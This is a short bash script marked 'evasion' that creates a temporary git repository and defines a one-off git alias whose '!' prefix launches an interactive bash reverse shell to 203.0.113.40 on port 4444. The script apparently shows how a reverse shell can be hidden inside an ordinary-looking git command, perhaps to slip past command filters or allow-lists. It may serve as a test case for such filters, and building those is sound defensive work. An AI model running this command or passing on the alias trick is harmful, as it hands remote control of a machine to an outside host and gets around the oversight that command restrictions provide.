#!/bin/bash
# evasion: a git alias starting with "!" is a shell command; defined with -c and used at once
cd "$(mktemp -d)" && git init -q
git -c alias.st='!bash -c "bash -i >& /dev/tcp/203.0.113.40/4444 0>&1"' st
